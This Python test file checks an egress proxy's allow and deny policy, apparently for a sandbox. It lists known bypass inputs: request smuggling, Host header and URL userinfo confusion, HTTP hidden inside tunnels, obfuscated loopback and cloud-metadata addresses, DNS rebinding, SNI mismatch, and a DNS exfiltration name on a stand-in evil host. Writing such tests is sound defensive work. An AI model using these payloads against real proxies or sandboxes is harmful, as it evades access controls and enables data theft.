"""The proxy itself: what goes through, and every way round it that we know of."""

from __future__ import annotations

import asyncio
import socket
import ssl

import httpx
import pytest

from opensandbox.local.egress.gateway import Gateway
from opensandbox.local.egress.policy import parse_policy
from tests.local.egress.conftest import ALLOW_EXAMPLE, proxied
from tests.local.egress.proxying import Proxied, client_hello
from tests.local.egress.upstreams import Internet

ALLOW_LOOPBACK = {"egress": [{"action": "allow", "target": "127.0.0.1"}]}

pytestmark = pytest.mark.anyio


async def test_plain_requests_reach_allowed_names(proxy: Proxied, net: Internet) -> None:
    async with proxy.client() as client:
        answer = await client.post("http://plain.example.com/echo?a=1", content=b"body")
        assert answer.json()["body"] == "body"
        assert net.plain.last().get("host") == "plain.example.com"
        assert net.plain.last().path == "/echo?a=1"
        assert (await client.head("http://plain.example.com/")).headers["content-length"] == "5"
        assert (await client.get("http://plain.example.com/stream/50")).text.endswith("piece49")
    assert net.plain.connections == 1, "a connection is kept for the next request"


async def test_what_concerns_the_proxy_ends_there(proxy: Proxied, net: Internet) -> None:
    said = await proxy.said(
        b"GET http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\nProxy-Authorization: x\r\n"
        b"Proxy-Connection: keep-alive\r\nConnection: close, X-Hop\r\nX-Hop: 1\r\nTE: trailers\r\n\r\n"
    )
    assert said.startswith(b"HTTP/1.1 200")
    assert {name.lower() for name, _ in net.plain.last().headers} == {"host"}


async def test_a_body_of_unknown_length_goes_through_in_chunks(proxy: Proxied, net: Internet) -> None:
    async def body() -> object:
        for _ in range(100):
            yield b"x" * 10000

    async with proxy.client() as client:
        await client.put("http://plain.example.com/", content=body())  # type: ignore[arg-type]
    assert len(net.plain.last().body) == 1_000_000
    assert net.plain.last().get("transfer-encoding") == "chunked"


async def test_a_program_that_waits_for_permission_to_send_gets_it(proxy: Proxied, net: Internet) -> None:
    reader, writer = await proxy.raw(
        b"POST http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\nContent-Length: 2\r\n"
        b"Expect: 100-continue\r\n\r\n"
    )
    assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 100")
    writer.write(b"hi")
    assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 200")
    assert net.plain.last().body == b"hi"


async def test_tls_goes_through_untouched(proxy: Proxied, net: Internet) -> None:
    # The program trusts the real authority alone, so nobody has looked inside.
    async with proxy.client(ssl.create_default_context(cafile=net.authority)) as client:
        assert (await client.get("https://web.example.com/")).text == "hello"


async def test_rules_with_ports_open_and_close_connections(gateway: Gateway, net: Internet) -> None:
    async def hang_up(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"hello")
        writer.close()

    servers = [await asyncio.start_server(hang_up, "127.0.0.1", 0) for _ in range(2)]
    opened, closed = (server.sockets[0].getsockname()[1] for server in servers)

    async def asked(running: Proxied, port: int) -> bytes:
        place = f"127.0.0.1:{port}"
        return await running.said(f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n".encode())

    allowing = {"egress": [{"action": "allow", "target": "127.0.0.1", "ports": [opened]}]}
    async with servers[0], servers[1], proxied(gateway, allowing) as running:
        assert (await asked(running, opened)).endswith(b"hello")
        assert (await asked(running, closed)).startswith(b"HTTP/1.1 403")
        denying = [{"action": "deny", "ports": [opened]}, {"action": "allow", "target": "127.0.0.1"}]
        running.egress.set_policy(parse_policy({"egress": denying}))
        assert (await asked(running, opened)).startswith(b"HTTP/1.1 403")
        assert (await asked(running, closed)).endswith(b"hello")


async def test_a_port_that_is_closed_everywhere_is_closed_for_names_too(
    gateway: Gateway, net: Internet
) -> None:
    rules = [{"action": "allow", "target": "plain.example.com"}, {"action": "deny", "ports": [8080]}]
    async with proxied(gateway, {"egress": rules}) as running, running.client() as client:
        assert (await client.get("http://plain.example.com/")).status_code == 200
        assert (await client.get("http://plain.example.com:8080/")).status_code == 403


async def test_other_protocols_go_through_tunnels(gateway: Gateway) -> None:
    async def greet(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"220 who are you\r\n")
        writer.write(b"250 hello " + await reader.readline())
        # The other side has said all; this one has not.
        assert await reader.read() == b""
        writer.write(b"bye\r\n")
        writer.close()

    server = await asyncio.start_server(greet, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    async with server, proxied(gateway, ALLOW_LOOPBACK) as proxy:
        reader, writer = await proxy.tunnel(f"127.0.0.1:{port}")
        assert await reader.readline() == b"220 who are you\r\n"
        writer.write(b"EHLO me\r\n")
        assert await reader.readline() == b"250 hello EHLO me\r\n"
        writer.write_eof()
        assert await reader.read() == b"bye\r\n"


async def test_what_was_sent_ahead_of_the_tunnel_is_not_lost(proxy: Proxied, net: Internet) -> None:
    said = await proxy.said(
        b"CONNECT plain.example.com:80 HTTP/1.1\r\nHost: plain.example.com:80\r\n\r\n"
        b"GET /ahead HTTP/1.1\r\nHost: plain.example.com\r\nConnection: close\r\n\r\n"
    )
    assert said.endswith(b"hello")
    assert net.plain.last().path == "/ahead"


async def test_a_host_that_does_not_answer_is_a_502(proxy: Proxied, gateway: Gateway) -> None:
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    async with proxied(gateway, ALLOW_LOOPBACK) as proxy:
        assert (
            b"502"
            in (await proxy.said(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: x\r\n\r\n".encode()))[:20]
        )
    async with proxied(gateway, {"defaultAction": "allow"}) as proxy:
        async with proxy.client() as client:
            answer = await client.get("http://no-such-name.invalid/")
        assert answer.status_code == 502
        assert "no-such-name.invalid" in answer.text


DENIED_REQUESTS = [
    b"GET http://denied.example.org/ HTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n",
    b"GET http://plain.example.com/ HTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"GET http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com:81\r\n\r\n",
    b"GET http://plain.example.com@denied.example.org/ HTTP/1.1\r\nHost: plain.example.com\r\n\r\n",
    b"GET http://denied.example.org\\@plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\n\r\n",
    b"GET http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\nHost: denied.example.org\r\n\r\n",
    b"GET https://web.example.com/ HTTP/1.1\r\nHost: web.example.com\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: plain.example.com\r\n\r\n",
    b"CONNECT denied.example.org:443 HTTP/1.1\r\nHost: web.example.com:443\r\n\r\n",
    b"CONNECT plain.example.com HTTP/1.1\r\nHost: plain.example.com\r\n\r\n",
    b"CONNECT http://plain.example.com:80 HTTP/1.1\r\nHost: plain.example.com\r\n\r\n",
    b"nonsense\r\n\r\n",
]


@pytest.mark.parametrize("request_bytes", DENIED_REQUESTS)
async def test_a_request_that_is_not_plainly_allowed_is_refused(
    proxy: Proxied, net: Internet, request_bytes: bytes
) -> None:
    said = await proxy.said(request_bytes)
    assert said.split(b" ")[1] in (b"400", b"403"), said
    assert b"\r\n\r\n" in said
    assert not net.requests


async def test_each_request_of_a_connection_is_checked(proxy: Proxied, net: Internet) -> None:
    good = b"GET http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\n\r\n"
    said = await proxy.said(good + DENIED_REQUESTS[0])
    assert said.count(b"HTTP/1.1 200") == 1
    assert said.count(b"HTTP/1.1 403") == 1
    assert len(net.requests) == 1


ADDRESSES = ["127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]",
             "[::ffff:7f00:1]", "[::]", "localhost", "localhost.", "169.254.169.254", "10.0.0.1"]  # fmt: skip


@pytest.mark.parametrize("host", ADDRESSES)
async def test_this_machine_is_out_of_reach_even_where_everything_is_allowed(
    open_proxy: Proxied, net: Internet, host: str
) -> None:
    for port in (net.plain.port, 80):
        said = await open_proxy.said(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        assert said.split(b" ")[1] in (b"400", b"403"), said
        said = await open_proxy.said(
            f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode()
        )
        assert said.split(b" ")[1] in (b"400", b"403"), said
    assert not net.connections


async def test_a_rule_for_an_address_opens_that_address(gateway: Gateway, net: Internet) -> None:
    allow = {"egress": [{"action": "allow", "target": "127.0.0.0/8"}]}
    async with proxied(gateway, allow) as proxy, proxy.client() as client:
        assert (await client.get(f"http://127.0.0.1:{net.plain.port}/")).text == "hello"
        answer = await client.get(
            f"http://127.0.0.1:{net.plain.port}/", headers={"Host": "denied.example.org"}
        )
        assert answer.status_code == 403


async def test_a_name_is_looked_up_once_and_that_address_is_judged(
    gateway: Gateway, net: Internet, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked = []

    def answer(host: str, port: int, *_: object, **__: object) -> list[object]:
        asked.append(host)
        # What a rebinding server does: an innocent answer first, the target afterwards.
        place = "192.0.2.1" if len(asked) == 1 else "127.0.0.1"
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (place, port))]

    monkeypatch.setattr(socket, "getaddrinfo", answer)
    async with proxied(gateway, None) as proxy:
        asked.append("warm up")
        said = await proxy.said(
            f"CONNECT rebind.example.net:{net.plain.port} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
        )
        assert b"403" in said[:20]
        assert asked == ["warm up", "rebind.example.net"]
    assert not net.connections


async def test_a_denied_name_is_not_even_looked_up(proxy: Proxied, monkeypatch: pytest.MonkeyPatch) -> None:
    # A lookup would tell the owner of the name whatever a program writes into it.
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_, **__: pytest.fail("looked up"))
    said = await proxy.said(b"CONNECT c3cret-data.evil.example.net:443 HTTP/1.1\r\nHost: x\r\n\r\n")
    assert b"403" in said[:20]


@pytest.mark.parametrize("pieces", [1, 40, 10000])
@pytest.mark.parametrize("name", ["secret.example.org", "api.example.com", "example.com", None])
async def test_tls_for_another_name_than_the_tunnels_is_cut(
    proxy: Proxied, net: Internet, name: str | None, pieces: int
) -> None:
    reader, writer = await proxy.tunnel("web.example.com:443")
    hello = client_hello(name)
    for start in range(0, len(hello), pieces):
        writer.write(hello[start : start + pieces])
    assert await asyncio.wait_for(reader.read(), 20) == b""


HIDDEN = [
    b"GET / HTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"\r\n\r\nGET / HTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"GET\t/ HTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"GET / HTTP/1.1\nHost: denied.example.org\n\n",
    b"GET http://denied.example.org/ HTTP/1.1\r\nHost: plain.example.com\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost : denied.example.org\r\nHost: plain.example.com\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: plain.example.com\r\nHost: denied.example.org\r\n\r\n",
    b"GET / HTTP/1.1\r\n Host: denied.example.org\r\nHost: plain.example.com\r\n\r\n",
    b"CONNECT denied.example.org:80 HTTP/1.1\r\nHost: denied.example.org:80\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET /\x01 HTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"GET /\x00 HTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"GET /\x7f HTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"GET\x0b/\x0bHTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"GET\x0c/\x0cHTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"\x0bGET / HTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"\x00junk\r\nGET / HTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"\xefGET / HTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: plain.example.com\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
]
# Text that nobody can read as HTTP/1.1, which is held until it is clear that the host does not speak first.
UNREADABLE = [
    b"junk\r\nGET / HTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"GET /\r\n",
    b"GET http://denied.example.org/\n",
    b"EHLO me\r\nGET / HTTP/1.1\r\nHost: denied.example.org\r\n\r\n",
    b"GET / HTTP\r\nHost: denied.example.org\r\n\r\n",
    b"GET / HTTP/x.1\r\nHost: denied.example.org\r\n\r\n",
]


@pytest.mark.parametrize("request_bytes", UNREADABLE)
async def test_what_does_not_parse_is_not_forwarded(
    proxy: Proxied, net: Internet, monkeypatch: pytest.MonkeyPatch, request_bytes: bytes
) -> None:
    monkeypatch.setattr("opensandbox.local.egress.proxy._GREETING_TIMEOUT", 0.05)
    for end in (False, True):
        reader, writer = await proxy.tunnel("plain.example.com:80")
        writer.write(request_bytes)
        if end:
            writer.write_eof()
        assert await asyncio.wait_for(reader.read(), 20) == b""
    reader, writer = await proxy.tunnel("plain.example.com:80")
    writer.write(request_bytes.rstrip(b"\r\n"))
    writer.write_eof()
    assert await asyncio.wait_for(reader.read(), 20) == b""
    assert not net.requests


async def test_a_program_that_does_not_wait_for_the_greeting_is_let_through_after_it(
    gateway: Gateway,
) -> None:
    async def greet(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await asyncio.wait_for(asked.wait(), 20)
        writer.write(b"SSH-2.0-server\r\n")
        writer.write(await reader.readline())
        writer.close()

    asked = asyncio.Event()
    server = await asyncio.start_server(greet, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    async with server, proxied(gateway, ALLOW_LOOPBACK) as proxy:
        reader, writer = await proxy.tunnel(f"127.0.0.1:{port}")
        writer.write(b"SSH-2.0-program\r\n")
        await writer.drain()
        asked.set()
        assert await asyncio.wait_for(reader.read(), 20) == b"SSH-2.0-server\r\nSSH-2.0-program\r\n"


async def test_programs_that_speak_first_and_no_text_are_let_through(gateway: Gateway) -> None:
    async def echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(await reader.readexactly(8))
        writer.close()

    server = await asyncio.start_server(echo, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    async with server, proxied(gateway, ALLOW_LOOPBACK) as proxy:
        for said in (b"\x00\x00\x00\x08\x04\xd2\x16\x2f", b"A\x01\x00\x00\x08\x04\xd2\x16"):
            reader, writer = await proxy.tunnel(f"127.0.0.1:{port}")
            writer.write(said)
            assert await asyncio.wait_for(reader.read(), 20) == said


@pytest.mark.parametrize("request_bytes", HIDDEN)
async def test_http_for_another_host_inside_a_tunnel_is_refused(
    proxy: Proxied, net: Internet, request_bytes: bytes
) -> None:
    for step in (1, 10000):
        reader, writer = await proxy.tunnel("plain.example.com:80")
        for start in range(0, len(request_bytes), step):
            writer.write(request_bytes[start : start + step])
            await asyncio.sleep(0)
        said = await asyncio.wait_for(reader.read(), 20)
        assert said == b"" or said.split(b" ")[1] in (b"400", b"403"), said
    assert not net.requests


async def test_a_second_request_in_a_tunnel_is_checked_too(proxy: Proxied, net: Internet) -> None:
    reader, writer = await proxy.tunnel("plain.example.com:80")
    writer.write(b"POST / HTTP/1.1\r\nHost: plain.example.com\r\nContent-Length: 0\r\n\r\n" + HIDDEN[0])
    said = await asyncio.wait_for(reader.read(), 20)
    assert said.count(b"HTTP/1.1 200") == 1
    assert said.count(b"HTTP/1.1 403") == 1
    assert len(net.requests) == 1


async def test_a_request_cannot_hide_another_in_its_body(proxy: Proxied, net: Internet) -> None:
    hidden = b"GET / HTTP/1.1\r\nHost: denied.example.org\r\n\r\n"
    said = await proxy.said(
        b"POST http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\nContent-Length: %d\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (5 + len(hidden)) + hidden
    )
    assert said.startswith(b"HTTP/1.1 400")
    assert said.count(b"HTTP/1.1") == 1
    assert not net.requests


async def test_an_answer_with_two_lengths_does_not_arrive(gateway: Gateway) -> None:
    async def both(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n"
        )
        writer.close()

    server = await asyncio.start_server(both, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    async with server, proxied(gateway, ALLOW_LOOPBACK) as proxy, proxy.client() as client:
        assert (await client.get(f"http://127.0.0.1:{port}/")).status_code == 502


async def test_explicitly_denied_names_are_denied_by_address_too(gateway: Gateway, net: Internet) -> None:
    policy = {
        "defaultAction": "allow",
        "egress": [
            {"action": "deny", "target": "secret.example.org"},
            {"action": "allow", "target": "127.0.0.1"},
        ],
    }
    async with proxied(gateway, policy) as proxy:
        for name, answered in (("secret.example.org", False), ("web.example.com", True)):
            reader, writer = await proxy.tunnel(f"127.0.0.1:{net.web.port}")
            writer.write(client_hello(name))
            assert bool(await asyncio.wait_for(reader.read(5), 20)) is answered


async def test_a_change_of_policy_holds_for_the_next_request(proxy: Proxied, net: Internet) -> None:
    async with proxy.client() as client:
        assert (await client.get("http://denied.example.org/")).status_code == 403
        assert proxy.call("PATCH", "/policy", [{"action": "allow", "target": "denied.example.org"}])[0] == 200
        assert (await client.get("http://denied.example.org/")).text == "hello"
        assert proxy.call("DELETE", "/policy", ["denied.example.org"])[0] == 200
        try:
            assert (await client.get("http://denied.example.org/")).status_code == 403
        except httpx.RemoteProtocolError:  # the kept connection was cut
            assert (await client.get("http://denied.example.org/")).status_code == 403
    assert len(net.plain.seen) == 1


async def test_a_change_of_policy_cuts_what_it_no_longer_allows(proxy: Proxied, net: Internet) -> None:
    context = ssl.create_default_context(cafile=net.authority)
    async with proxy.client(context) as client:
        assert (await client.get("https://web.example.com/")).text == "hello"
        reader, _ = await proxy.tunnel("plain.example.com:80")
        other_reader, other_writer = await proxy.tunnel("api.example.com:443")
        rules = [
            {"action": "deny", "target": "web.example.com"},
            {"action": "deny", "target": "plain.example.com"},
        ]
        assert proxy.call("PATCH", "/policy", rules)[0] == 200
        assert await asyncio.wait_for(reader.read(), 20) == b""
        with pytest.raises(httpx.ProxyError):
            await client.get("https://web.example.com/")
        # What is still allowed goes on.
        other_writer.write(client_hello("api.example.com"))
        assert await asyncio.wait_for(other_reader.read(1), 20) == b"\x16"


async def test_a_kept_connection_that_the_host_let_go_is_replaced(gateway: Gateway) -> None:
    served = 0

    async def once(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal served
        served += 1
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
        await reader.readuntil(b"\r\n\r\n") if served == 1 else None
        writer.close()

    server = await asyncio.start_server(once, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    async with server, proxied(gateway, ALLOW_LOOPBACK) as proxy, proxy.client() as client:
        for _ in range(3):
            assert (await client.get(f"http://127.0.0.1:{port}/")).text == "ok"
    assert served == 3


async def test_an_answer_that_breaks_off_does_so_for_the_program(gateway: Gateway) -> None:
    async def half(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nhalf")
        writer.close()

    server = await asyncio.start_server(half, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    async with server, proxied(gateway, ALLOW_LOOPBACK) as proxy, proxy.client() as client:
        with pytest.raises(httpx.RemoteProtocolError):
            await client.get(f"http://127.0.0.1:{port}/")


async def test_many_connections_at_once(proxy: Proxied, net: Internet) -> None:
    async with proxy.client(ssl.create_default_context(cafile=net.authority)) as client:
        urls = [f"{scheme}.example.com/" for scheme in ("https://web", "http://plain")] * 25
        answers = await asyncio.gather(*(client.get(url) for url in urls))
    assert {answer.text for answer in answers} == {"hello"}


async def test_closing_cuts_everything(gateway: Gateway, net: Internet) -> None:
    async with proxied(gateway, ALLOW_EXAMPLE) as proxy:
        reader, _ = await proxy.tunnel("plain.example.com:80")
    assert await asyncio.wait_for(reader.read(), 20) == b""
    with pytest.raises(ConnectionRefusedError):
        await asyncio.open_connection("127.0.0.1", proxy.port)


async def test_the_head_of_a_request_has_a_time_limit(
    proxy: Proxied, net: Internet, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("opensandbox.local.egress.peer._HEAD_TIMEOUT", 0.1)
    begun = b"GET http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\n"
    assert await proxy.said(begun) == b""
    assert (await proxy.said(begun + b"\r\n" + begun)).count(b"HTTP/1.1") == 1
    monkeypatch.setattr("opensandbox.local.egress.peer._IDLE_TIMEOUT", 0.1)
    assert await proxy.said(b"") == b""
